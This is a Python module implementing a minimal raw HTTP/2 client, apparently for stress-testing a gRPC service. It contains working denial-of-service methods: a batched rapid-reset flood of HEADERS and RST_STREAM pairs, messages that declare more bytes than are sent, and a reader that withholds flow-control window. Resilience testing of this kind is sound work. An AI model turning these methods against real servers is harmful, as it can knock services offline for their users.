"""A minimal raw HTTP/2 client over plain TCP, for attacks a stock gRPC client
will not make (rapid reset, a message that never ends, a reader that never
grants window). Standard library only.

    conn = H2Connection("127.0.0.1:50051")        # preface + SETTINGS, reader thread
    sid = conn.open_grpc_stream("/rollpack.v1.Rollouts/PutSamples",
                                extra_headers=[("authorization", "Bearer T")])
    conn.send_message(sid, body)                   # 5-byte prefix + body, flow-controlled
    conn.send_message_prefix(sid, 400 << 20)       # declare more than will be sent ...
    conn.send_data(sid, 300 << 20, stall_timeout=3) # ... send zeros while window lasts
    conn.reset_stream(sid)                         # RST_STREAM(CANCEL)
    conn.stream(sid).rst_code, conn.goaways, conn.closed_by_peer
    conn.close()

The reader thread answers SETTINGS and PING, follows the server's
SETTINGS (INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE, ...) and WINDOW_UPDATEs, and
records per stream: response headers, trailers (END_STREAM), grpc-status
when the server sent it as a plain literal (gRPC core does), RST_STREAM codes,
DATA bytes. `grant_window=False` never sends WINDOW_UPDATE for DATA received,
so the server's writes stall once its windows are spent. Streams opened by
`send_rapid_reset_batch` are not tracked one by one (only counted), so a flood
of millions keeps the client small.
"""

import collections
import select
import socket
import ssl
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
FRAME_NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING",
               "GOAWAY", "WINDOW_UPDATE", "CONTINUATION"]

FLAG_END_STREAM = 0x1
FLAG_ACK = 0x1
FLAG_END_HEADERS = 0x4
FLAG_PADDED = 0x8
FLAG_PRIORITY = 0x20

SETTINGS_HEADER_TABLE_SIZE = 0x1
SETTINGS_ENABLE_PUSH = 0x2
SETTINGS_MAX_CONCURRENT_STREAMS = 0x3
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
SETTINGS_MAX_FRAME_SIZE = 0x5
SETTINGS_MAX_HEADER_LIST_SIZE = 0x6
SETTING_NAMES = {1: "HEADER_TABLE_SIZE", 2: "ENABLE_PUSH", 3: "MAX_CONCURRENT_STREAMS",
                 4: "INITIAL_WINDOW_SIZE", 5: "MAX_FRAME_SIZE", 6: "MAX_HEADER_LIST_SIZE",
                 8: "ENABLE_CONNECT_PROTOCOL", 0xfe03: "GRPC_ALLOW_TRUE_BINARY_METADATA"}

ERROR_NAMES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
               "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL",
               "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
               "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
CANCEL = 8

DEFAULT_WINDOW = 65535
MAX_WINDOW = (1 << 31) - 1


def error_name(code):
    return ERROR_NAMES[code] if 0 <= code < len(ERROR_NAMES) else "0x%x" % code


class ConnectionClosed(Exception):
    """The connection is closed (by the server, or a send failed)."""


class H2Error(Exception):
    """A send could not complete (no window in time, stream reset, ...)."""


# --- HPACK (RFC 7541): encoding as literals, decoding without Huffman ------

def hpack_int(value, prefix_bits, first_byte=0):
    """`value` as an HPACK integer with a `prefix_bits`-bit prefix; the
    prefix's high bits come from `first_byte`."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = bytearray([first_byte | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(data):
    """A string literal, no Huffman."""
    if isinstance(data, str):
        data = data.encode()
    return hpack_int(len(data), 7) + data


def encode_headers(headers):
    """[(name, value)] as "literal header field without indexing, new name"
    (0x00), no Huffman: a block any decoder reads without state."""
    out = bytearray()
    for name, value in headers:
        out += b"\x00" + hpack_string(name.lower()) + hpack_string(value)
    return bytes(out)


STATIC_TABLE = [
    None, (":authority", ""), (":method", "GET"), (":method", "POST"), (":path", "/"),
    (":path", "/index.html"), (":scheme", "http"), (":scheme", "https"), (":status", "200"),
    (":status", "204"), (":status", "206"), (":status", "304"), (":status", "400"),
    (":status", "404"), (":status", "500"), ("accept-charset", ""),
    ("accept-encoding", "gzip, deflate"), ("accept-language", ""), ("accept-ranges", ""),
    ("accept", ""), ("access-control-allow-origin", ""), ("age", ""), ("allow", ""),
    ("authorization", ""), ("cache-control", ""), ("content-disposition", ""),
    ("content-encoding", ""), ("content-language", ""), ("content-length", ""),
    ("content-location", ""), ("content-range", ""), ("content-type", ""), ("cookie", ""),
    ("date", ""), ("etag", ""), ("expect", ""), ("expires", ""), ("from", ""), ("host", ""),
    ("if-match", ""), ("if-modified-since", ""), ("if-none-match", ""), ("if-range", ""),
    ("if-unmodified-since", ""), ("last-modified", ""), ("link", ""), ("location", ""),
    ("max-forwards", ""), ("proxy-authenticate", ""), ("proxy-authorization", ""),
    ("range", ""), ("referer", ""), ("refresh", ""), ("retry-after", ""), ("server", ""),
    ("set-cookie", ""), ("strict-transport-security", ""), ("transfer-encoding", ""),
    ("user-agent", ""), ("vary", ""), ("via", ""), ("www-authenticate", ""),
]


class HpackDecoder:
    """Best-effort HPACK decoder with a dynamic table but no Huffman: a
    Huffman-coded string decodes as None (its length is still right, so the
    table stays in step). gRPC core writes text values as plain literals, so
    :status, grpc-status and grpc-message come through."""

    def __init__(self, max_size=4096):
        self.table = collections.deque()  # newest first
        self.size = 0
        self.max_size = max_size

    @staticmethod
    def _int(block, pos, prefix_bits):
        limit = (1 << prefix_bits) - 1
        value = block[pos] & limit
        pos += 1
        if value < limit:
            return value, pos
        shift = 0
        while True:
            byte = block[pos]
            pos += 1
            value += (byte & 0x7F) << shift
            shift += 7
            if not byte & 0x80:
                return value, pos

    def _string(self, block, pos):
        huffman = bool(block[pos] & 0x80)
        length, pos = self._int(block, pos, 7)
        raw = bytes(block[pos:pos + length])
        return (None if huffman else raw.decode("latin-1")), pos + length

    def _entry(self, index):
        if index < len(STATIC_TABLE):
            return STATIC_TABLE[index]
        i = index - len(STATIC_TABLE)
        return self.table[i] if i < len(self.table) else (None, None)

    def _add(self, name, value):
        size = len(name or "") + len(value or "") + 32
        self.table.appendleft((name, value))
        self.size += size
        self._evict()

    def _evict(self):
        while self.size > self.max_size and self.table:
            name, value = self.table.pop()
            self.size -= len(name or "") + len(value or "") + 32

    def decode(self, block):
        headers = []
        pos = 0
        while pos < len(block):
            byte = block[pos]
            if byte & 0x80:  # indexed
                index, pos = self._int(block, pos, 7)
                headers.append(self._entry(index))
            elif byte & 0xC0 == 0x40:  # literal with incremental indexing
                index, pos = self._int(block, pos, 6)
                if index:
                    name = self._entry(index)[0]
                else:
                    name, pos = self._string(block, pos)
                value, pos = self._string(block, pos)
                self._add(name, value)
                headers.append((name, value))
            elif byte & 0xE0 == 0x20:  # dynamic table size update
                self.max_size, pos = self._int(block, pos, 5)
                self._evict()
            else:  # literal without indexing / never indexed
                index, pos = self._int(block, pos, 4)
                if index:
                    name = self._entry(index)[0]
                else:
                    name, pos = self._string(block, pos)
                value, pos = self._string(block, pos)
                headers.append((name, value))
        return headers


# --- frames ----------------------------------------------------------------

def frame(ftype, flags, stream_id, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, stream_id & MAX_WINDOW) + payload


def grpc_prefix(length, compressed=False):
    """The 5-byte gRPC message prefix."""
    return struct.pack(">BI", 1 if compressed else 0, length)


class StreamState:
    """What one tracked stream saw. Times are time.monotonic()."""

    def __init__(self, stream_id, send_window, recv_window):
        self.id = stream_id
        self.send_window = send_window
        self.recv_window = recv_window
        self.opened_at = time.monotonic()
        self.sent_bytes = 0          # DATA payload bytes sent (prefixes included)
        self.headers_at = None       # response headers (first HEADERS without END_STREAM)
        self.trailers_at = None      # HEADERS with END_STREAM (trailers or trailers-only)
        self.headers = []            # decoded response headers, then trailers
        self.end_stream_at = None    # the server ended its side (HEADERS or DATA)
        self.rst_code = None         # RST_STREAM from the server
        self.rst_at = None
        self.reset_by_client = False
        self.data_bytes = 0          # DATA payload bytes received
        self.local_closed = False
        self.stop_reason = None      # why the last send_data returned

    def header(self, name):
        """The last value of `name` in headers and trailers, or None."""
        found = None
        for n, v in self.headers:
            if n == name:
                found = v
        return found

    @property
    def grpc_status(self):
        value = self.header("grpc-status")
        return int(value) if value is not None and value.isdigit() else None

    def summary(self, t0=None):
        t0 = self.opened_at if t0 is None else t0

        def rel(t):
            return None if t is None else round(t - t0, 3)
        return {"id": self.id, "sent_bytes": self.sent_bytes, "data_bytes": self.data_bytes,
                "headers_s": rel(self.headers_at), "trailers_s": rel(self.trailers_at),
                "grpc_status": self.grpc_status, "grpc_message": self.header("grpc-message"),
                "rst": None if self.rst_code is None else error_name(self.rst_code),
                "rst_s": rel(self.rst_at), "stop_reason": self.stop_reason}


class H2Connection:
    """One HTTP/2 connection (prior knowledge, plain TCP) with a reader thread.

    recv_window: our INITIAL_WINDOW_SIZE and connection window for what the
    server sends; grant_window: send WINDOW_UPDATE for DATA received (False:
    the server's writes stall once it has sent recv_window bytes);
    answer_pings: ACK the server's PINGs (False: keepalive pings go
    unanswered); wait_settings: seconds to wait for the server's SETTINGS in
    the constructor (0: don't)."""

    def __init__(self, address, connect_timeout=10.0, recv_window=1 << 24, grant_window=True,
                 answer_pings=True, wait_settings=5.0, authority=None, tls=None, source=None):
        host, port = address.rsplit(":", 1)
        self.address = address
        self.authority = authority or address
        self.grant_window = grant_window
        self.answer_pings = answer_pings
        self.recv_window = recv_window
        self.t0 = time.monotonic()

        # What the server told us.
        self.peer_settings = {}
        self.settings_received = threading.Event()
        self.peer_initial_window = DEFAULT_WINDOW
        self.peer_max_frame_size = 16384
        self.peer_max_concurrent_streams = None
        self.send_window = DEFAULT_WINDOW       # connection-level, for our DATA
        self.goaways = []                       # dicts, see _on_goaway
        self.frames_received = collections.Counter()
        self.rst_received = collections.Counter()   # error name -> count, all streams
        self.data_received = 0
        self.pings_received = 0
        self.closed = False                     # the reader saw EOF or an error
        self.closed_at = None
        self.closed_by_peer = False
        self.close_error = None

        self.streams = {}
        self.next_stream_id = 1
        self.streams_opened = 0                 # tracked + untracked
        self.streams_reset = 0                  # RST_STREAM we sent

        self._cv = threading.Condition()
        self._wlock = threading.Lock()
        self._closing = False
        self._decoder = HpackDecoder()
        self._header_stream = None              # stream of a block awaiting CONTINUATION
        self._header_block = bytearray()
        self._header_end_stream = False

        self.sock = socket.create_connection(
            (host, int(port)), timeout=connect_timeout,
            source_address=None if source is None else (source, 0))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls is not None:  # an ssl.SSLContext (ALPN h2): HTTP/2 over TLS
            try:
                self.sock = tls.wrap_socket(self.sock, server_hostname=host)
            except BaseException:
                self.sock.close()
                raise
        self.sock.settimeout(None)
        try:
            settings = struct.pack(">HI", SETTINGS_ENABLE_PUSH, 0)
            settings += struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, min(recv_window, MAX_WINDOW))
            hello = PREFACE + frame(SETTINGS, 0, 0, settings)
            if recv_window > DEFAULT_WINDOW:
                hello += frame(WINDOW_UPDATE, 0, 0,
                               struct.pack(">I", min(recv_window, MAX_WINDOW) - DEFAULT_WINDOW))
            self._send(hello, timeout=connect_timeout)
            self._reader = threading.Thread(target=self._read_loop, daemon=True,
                                            name="h2-reader-%s" % address)
            self._reader.start()
        except BaseException:
            self.sock.close()
            raise
        if wait_settings:
            self.settings_received.wait(wait_settings)

    # --- writing -----------------------------------------------------------

    def _send(self, data, timeout=None):
        """All of `data`, or ConnectionClosed / TimeoutError (the connection
        is then unusable: a frame may be half-written)."""
        deadline = None if timeout is None else time.monotonic() + timeout
        view = memoryview(data)
        if not self._wlock.acquire(timeout=-1 if timeout is None else timeout):
            raise TimeoutError("another write held the connection for %.1f s" % timeout)
        try:
            while view:
                if self._closing:
                    raise ConnectionClosed("closed locally")
                wait = 1.0 if deadline is None else min(1.0, deadline - time.monotonic())
                if wait <= 0:
                    raise TimeoutError("the server did not read %d bytes in %.1f s"
                                       % (len(view), timeout))
                try:
                    _, writable, _ = select.select([], [self.sock], [], wait)
                    if not writable:
                        continue
                    if isinstance(self.sock, ssl.SSLSocket):
                        # No flags on TLS sockets: a blocking write of what
                        # select found room for (at most one TLS record's).
                        n = self.sock.send(view[:16384])
                    else:
                        n = self.sock.send(view, socket.MSG_DONTWAIT)
                except BlockingIOError:
                    continue
                except (OSError, ValueError) as e:
                    raise ConnectionClosed("send failed: %s" % e)
                view = view[n:]
        finally:
            self._wlock.release()

    def send_frame(self, ftype, flags, stream_id, payload=b"", timeout=30.0):
        self._send(frame(ftype, flags, stream_id, payload), timeout)

    def send_ping(self, payload=b"\0" * 8):
        self.send_frame(PING, 0, 0, payload)

    # --- streams -------------------------------------------------------------

    def _new_stream_id(self, count=1):
        with self._cv:
            first = self.next_stream_id
            if first + 2 * (count - 1) > MAX_WINDOW:
                raise H2Error("stream ids exhausted on this connection")
            self.next_stream_id += 2 * count
            self.streams_opened += count
            return first

    def stream(self, stream_id):
        return self.streams[stream_id]

    def request_headers(self, path, extra_headers=(), content_type="application/grpc"):
        headers = [(":method", "POST"), (":scheme", "http"), (":path", path),
                   (":authority", self.authority), ("content-type", content_type),
                   ("te", "trailers")]
        return headers + list(extra_headers)

    def _header_frames(self, stream_id, block, end_stream):
        """HEADERS (+ CONTINUATION) carrying `block`, split at the peer's
        MAX_FRAME_SIZE."""
        size = self.peer_max_frame_size
        chunks = [block[i:i + size] for i in range(0, len(block), size)] or [b""]
        out = bytearray()
        for i, chunk in enumerate(chunks):
            flags = FLAG_END_HEADERS if i == len(chunks) - 1 else 0
            if i == 0:
                out += frame(HEADERS, flags | (FLAG_END_STREAM if end_stream else 0), stream_id, chunk)
            else:
                out += frame(CONTINUATION, flags, stream_id, chunk)
        return bytes(out)

    def open_stream(self, headers, end_stream=False, timeout=30.0):
        """A new tracked stream with `headers` ([(name, value)], pseudo
        headers first); its id."""
        stream_id = self._new_stream_id()
        with self._cv:
            self.streams[stream_id] = StreamState(stream_id, self.peer_initial_window,
                                                  self.recv_window)
        self._send(self._header_frames(stream_id, encode_headers(headers), end_stream), timeout)
        if end_stream:
            self.streams[stream_id].local_closed = True
        return stream_id

    def open_grpc_stream(self, path, extra_headers=(), token=None, encoding=None, timeout=30.0):
        """A gRPC request stream on `path` (e.g. /rollpack.v1.Rollouts/PutSamples);
        `token` adds `authorization: Bearer TOKEN`, `encoding` grpc-encoding."""
        extra = list(extra_headers)
        if token:
            extra.append(("authorization", "Bearer " + token))
        if encoding:
            extra.append(("grpc-encoding", encoding))
        return self.open_stream(self.request_headers(path, extra), timeout=timeout)

    def send_rapid_reset_batch(self, count, path, extra_headers=(), timeout=None):
        """`count` pairs of HEADERS (new stream, no END_STREAM) + RST_STREAM
        (CANCEL) in one write; streams are counted, not tracked. Returns the
        number sent (count, or raises ConnectionClosed / TimeoutError)."""
        block = getattr(self, "_rr_block", None)
        key = (path, tuple(extra_headers))
        if block is None or block[0] != key:
            encoded = encode_headers(self.request_headers(path, extra_headers))
            if len(encoded) > self.peer_max_frame_size:
                raise H2Error("header block larger than a frame")
            block = (key, encoded)
            self._rr_block = block
        encoded = block[1]
        n = len(encoded)
        head = struct.pack(">BHBB", n >> 16, n & 0xFFFF, HEADERS, FLAG_END_HEADERS)
        rst_head = struct.pack(">BHBB", 0, 4, RST_STREAM, 0)
        rst_body = struct.pack(">I", CANCEL)
        first = self._new_stream_id(count)
        parts = []
        pack = struct.pack
        for sid in range(first, first + 2 * count, 2):
            sid_bytes = pack(">I", sid)
            parts += (head, sid_bytes, encoded, rst_head, sid_bytes, rst_body)
        self._send(b"".join(parts), timeout)
        with self._cv:
            self.streams_reset += count
        return count

    def reset_stream(self, stream_id, code=CANCEL, timeout=10.0):
        self.send_frame(RST_STREAM, 0, stream_id, struct.pack(">I", code), timeout)
        with self._cv:
            self.streams_reset += 1
            st = self.streams.get(stream_id)
            if st is not None:
                st.reset_by_client = True
                st.local_closed = True

    def end_stream(self, stream_id, timeout=10.0):
        """An empty DATA frame with END_STREAM (half-close)."""
        self.send_frame(DATA, FLAG_END_STREAM, stream_id, b"", timeout)
        self.streams[stream_id].local_closed = True

    _ZEROS = bytes(1 << 20)

    def send_data(self, stream_id, data, end_stream=False, timeout=60.0, stall_timeout=None,
                  stop=None):
        """DATA on `stream_id` within the flow-control windows, chunked at
        the peer's MAX_FRAME_SIZE. `data`: bytes, or an int (that many zero
        bytes, without allocating them). Blocks while the windows are spent.
        Returns the bytes sent, and sets the stream's stop_reason: "done";
        "stalled" (no window for `stall_timeout` s); "timeout" (`timeout` s in
        all); "reset" (the server reset the stream); "answered" (the server ended
        its side: trailers); "closed" (the
        connection); "stopped" (the `stop` threading.Event was set).
        END_STREAM goes on the last frame only when everything was sent."""
        st = self.streams[stream_id]
        total = data if isinstance(data, int) else len(data)
        view = None if isinstance(data, int) else memoryview(data)
        sent = 0
        deadline = None if timeout is None else time.monotonic() + timeout
        reason = "done"
        last_progress = time.monotonic()
        while sent < total or (end_stream and total == 0 and sent == 0):
            if total == 0:
                amount = 0
            else:
                with self._cv:
                    while True:
                        if self.closed:
                            reason = "closed"
                            break
                        if st.rst_code is not None:
                            reason = "reset"
                            break
                        if st.end_stream_at is not None:
                            reason = "answered"
                            break
                        if stop is not None and stop.is_set():
                            reason = "stopped"
                            break
                        window = min(self.send_window, st.send_window)
                        if window > 0:
                            break
                        now = time.monotonic()
                        if deadline is not None and now >= deadline:
                            reason = "timeout"
                            break
                        if stall_timeout is not None and now - last_progress >= stall_timeout:
                            reason = "stalled"
                            break
                        self._cv.wait(0.1)
                    if reason != "done":
                        break
                    # Up to 1 MiB per write, in frames of the peer's MAX_FRAME_SIZE.
                    amount = min(window, total - sent, 1 << 20)
                    self.send_window -= amount
                    st.send_window -= amount
            last = sent + amount == total
            size = self.peer_max_frame_size
            frames = []
            for offset in range(sent, sent + amount, size) if amount else [sent]:
                n = min(size, sent + amount - offset)
                chunk = self._ZEROS[:n] if view is None else view[offset:offset + n].tobytes()
                flags = FLAG_END_STREAM if (end_stream and last and offset + n == sent + amount) \
                    else 0
                frames.append(frame(DATA, flags, stream_id, chunk))
            remaining = None if deadline is None else max(0.1, deadline - time.monotonic())
            try:
                self._send(b"".join(frames), remaining)
            except TimeoutError:
                reason = "timeout"
                break
            except ConnectionClosed:
                reason = "closed"
                break
            sent += amount
            st.sent_bytes += amount
            last_progress = time.monotonic()
            if last and end_stream:
                st.local_closed = True
            if total == 0:
                break
        st.stop_reason = reason
        return sent

    def send_message_prefix(self, stream_id, declared_length, compressed=False, timeout=60.0):
        """Only the 5-byte prefix declaring a `declared_length` message (send
        the body, or less of it, with send_data)."""
        if self.send_data(stream_id, grpc_prefix(declared_length, compressed),
                          timeout=timeout) != 5:
            raise H2Error("prefix not sent: %s" % self.streams[stream_id].stop_reason)

    def send_message(self, stream_id, body, compressed=False, end_stream=False, timeout=60.0,
                     declared_length=None):
        """One gRPC message: prefix + body (bytes, or an int for zeros).
        `declared_length` > len(body) declares more than is sent (the message
        never completes). Raises H2Error if the windows did not let it all
        through within `timeout`."""
        length = body if isinstance(body, int) else len(body)
        declared = length if declared_length is None else declared_length
        self.send_message_prefix(stream_id, declared, compressed, timeout)
        sent = self.send_data(stream_id, body, end_stream=end_stream, timeout=timeout)
        if sent != length:
            raise H2Error("sent %d of %d bytes: %s"
                          % (sent, length, self.streams[stream_id].stop_reason))

    def wait_stream_closed(self, stream_id, timeout):
        """Wait until the server ended or reset the stream, or the connection
        closed; True if so."""
        st = self.streams[stream_id]
        with self._cv:
            return self._cv.wait_for(
                lambda: st.end_stream_at is not None or st.rst_code is not None or self.closed,
                timeout)

    # --- reading -------------------------------------------------------------

    def _read_loop(self):
        buf = bytearray()
        error = None
        try:
            while True:
                chunk = self.sock.recv(1 << 18)
                if not chunk:
                    break
                buf += chunk
                pos = 0
                while len(buf) - pos >= 9:
                    length = (buf[pos] << 16) | (buf[pos + 1] << 8) | buf[pos + 2]
                    if len(buf) - pos < 9 + length:
                        break
                    ftype, flags = buf[pos + 3], buf[pos + 4]
                    stream_id = struct.unpack_from(">I", buf, pos + 5)[0] & MAX_WINDOW
                    payload = bytes(buf[pos + 9:pos + 9 + length])
                    pos += 9 + length
                    self._on_frame(ftype, flags, stream_id, payload)
                del buf[:pos]
        except (OSError, ValueError) as e:
            error = e
        except Exception as e:  # a parsing bug must not hang the senders
            error = e
        with self._cv:
            self.closed = True
            self.closed_at = time.monotonic()
            self.closed_by_peer = not self._closing
            if error is not None and not self._closing:
                self.close_error = "%s: %s" % (type(error).__name__, error)
            self._cv.notify_all()

    def _reply(self, data):
        try:
            self._send(data, timeout=10.0)
        except (ConnectionClosed, TimeoutError):
            pass

    def _on_frame(self, ftype, flags, stream_id, payload):
        self.frames_received[FRAME_NAMES[ftype] if ftype < len(FRAME_NAMES) else ftype] += 1
        if ftype == SETTINGS:
            if flags & FLAG_ACK:
                return
            with self._cv:
                for i in range(0, len(payload) - 5, 6):
                    ident, value = struct.unpack_from(">HI", payload, i)
                    self.peer_settings[SETTING_NAMES.get(ident, "0x%x" % ident)] = value
                    if ident == SETTINGS_INITIAL_WINDOW_SIZE:
                        delta = value - self.peer_initial_window
                        self.peer_initial_window = value
                        for st in self.streams.values():
                            st.send_window += delta
                    elif ident == SETTINGS_MAX_FRAME_SIZE:
                        self.peer_max_frame_size = value
                    elif ident == SETTINGS_MAX_CONCURRENT_STREAMS:
                        self.peer_max_concurrent_streams = value
                self._cv.notify_all()
            self._reply(frame(SETTINGS, FLAG_ACK, 0))
            self.settings_received.set()
        elif ftype == PING:
            if flags & FLAG_ACK:
                return
            self.pings_received += 1
            if self.answer_pings:
                self._reply(frame(PING, FLAG_ACK, 0, payload))
        elif ftype == WINDOW_UPDATE:
            increment = struct.unpack(">I", payload[:4])[0] & MAX_WINDOW
            with self._cv:
                if stream_id == 0:
                    self.send_window += increment
                else:
                    st = self.streams.get(stream_id)
                    if st is not None:
                        st.send_window += increment
                self._cv.notify_all()
        elif ftype == RST_STREAM:
            code = struct.unpack(">I", payload[:4])[0]
            with self._cv:
                self.rst_received[error_name(code)] += 1
                st = self.streams.get(stream_id)
                if st is not None and st.rst_code is None:
                    st.rst_code = code
                    st.rst_at = time.monotonic()
                self._cv.notify_all()
        elif ftype == GOAWAY:
            last_stream, code = struct.unpack(">II", payload[:8])
            with self._cv:
                self.goaways.append({"t": round(time.monotonic() - self.t0, 3),
                                     "last_stream_id": last_stream & MAX_WINDOW,
                                     "error": error_name(code),
                                     "debug": payload[8:200].decode("latin-1")})
                self._cv.notify_all()
        elif ftype == DATA:
            data_len = len(payload)
            if flags & FLAG_PADDED and payload:
                payload = payload[1:len(payload) - payload[0]]
            with self._cv:
                self.data_received += len(payload)
                st = self.streams.get(stream_id)
                if st is not None:
                    st.data_bytes += len(payload)
                    if flags & FLAG_END_STREAM:
                        st.end_stream_at = time.monotonic()
                self._cv.notify_all()
            if self.grant_window and data_len:
                inc = struct.pack(">I", data_len)
                out = frame(WINDOW_UPDATE, 0, 0, inc)
                if st is not None and not flags & FLAG_END_STREAM:
                    out += frame(WINDOW_UPDATE, 0, stream_id, inc)
                self._reply(out)
        elif ftype in (HEADERS, CONTINUATION):
            if ftype == HEADERS:
                if flags & FLAG_PADDED and payload:
                    payload = payload[1:len(payload) - payload[0]]
                if flags & FLAG_PRIORITY:
                    payload = payload[5:]
                self._header_stream = stream_id
                self._header_block = bytearray(payload)
                self._header_end_stream = bool(flags & FLAG_END_STREAM)
            else:
                self._header_block += payload
            if flags & FLAG_END_HEADERS:
                self._on_header_block(self._header_stream, bytes(self._header_block),
                                      self._header_end_stream)
                self._header_block = bytearray()

    def _on_header_block(self, stream_id, block, end_stream):
        try:
            headers = self._decoder.decode(block)
        except (IndexError, UnicodeDecodeError):
            headers = [("<undecodable>", block.hex()[:200])]
        now = time.monotonic()
        with self._cv:
            st = self.streams.get(stream_id)
            if st is not None:
                st.headers.extend(headers)
                if end_stream:
                    st.trailers_at = now
                    st.end_stream_at = now
                elif st.headers_at is None:
                    st.headers_at = now
            self._cv.notify_all()

    # --- closing -------------------------------------------------------------

    def summary(self):
        return {"streams_opened": self.streams_opened, "streams_reset": self.streams_reset,
                "rst_received": dict(self.rst_received),
                "goaways": list(self.goaways),
                "closed_by_server": self.closed_by_peer,
                "closed_s": None if self.closed_at is None else round(self.closed_at - self.t0, 3),
                "close_error": self.close_error,
                "settings": dict(self.peer_settings),
                "frames_received": {str(k): v for k, v in self.frames_received.items()}}

    def close(self, goaway=True, join_timeout=5.0):
        """GOAWAY (if the connection still works), then shut the socket and
        join the reader. Safe to call twice."""
        if goaway and not self.closed and not self._closing:
            try:
                self._send(frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0)), timeout=1.0)
            except (ConnectionClosed, TimeoutError):
                pass
        self._closing = True
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        reader = getattr(self, "_reader", None)
        if reader is not None:
            reader.join(join_timeout)
        self.sock.close()

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()
        return False
